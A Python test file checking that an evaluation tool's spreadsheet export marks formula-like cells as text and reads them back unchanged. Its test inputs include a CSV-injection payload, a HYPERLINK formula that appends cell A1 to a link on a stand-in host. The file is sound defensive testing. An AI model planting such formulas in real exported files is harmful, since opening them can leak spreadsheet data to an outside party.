"""A text that a spreadsheet would calculate is marked as text, numbers are not, and reading gives the original."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval.benchmarks.external.external_rows import rows_of
from eval.export.vlmevalkit_tables import _tsv
from eval.records.spreadsheet_cells import as_text, as_written

COLUMNS = ["index", "question", "answer", "l2-category", "problem_id", "variant"]
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "-x", "+", "-", "=", "@ada",
    "＝1+1", " =1+1", "\t=1+1", "\r=1", "'=1", "''=1", "-3 cm", "-\\frac{1}{2}", "+A", "-1-2",
]  # fmt: skip
PLAIN = ["", "-3", "+3", "-0.5", "-.5", "1e-3", "-1E+5", "3-2", "A, C", "'quoted' text", "a=b", "x@y", "\\frac{1}{2}"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_marked(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"
    assert as_written(as_text(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert as_written(cell) == as_text(cell) == cell


@given(st.text(alphabet="'=+-@ 1.ae\t\r\n＝"))
def test_reading_gives_what_was_written(cell: str) -> None:
    assert as_written(as_text(cell)) == cell
    assert not as_text(cell).lstrip().startswith(("=", "@"))


def test_our_table_is_read_back_and_that_of_others_as_it_is(tmp_path: Path) -> None:
    cells = [*FORMULAS, *PLAIN]
    rows = [dict.fromkeys(COLUMNS, cell) | {"index": n, "variant": "plain"} for n, cell in enumerate(cells)]
    ours = tmp_path / "ours.tsv"
    ours.write_bytes(_tsv(COLUMNS, rows))
    assert [row.values["answer"] for row in rows_of(ours)] == cells
    assert b'\t"=' not in ours.read_bytes()
    theirs = tmp_path / "theirs.csv"
    theirs.write_text("question,answer\nwhat is ' for?,'-' means minus\n")
    assert [row.values["answer"] for row in rows_of(theirs)] == ["'-' means minus"]
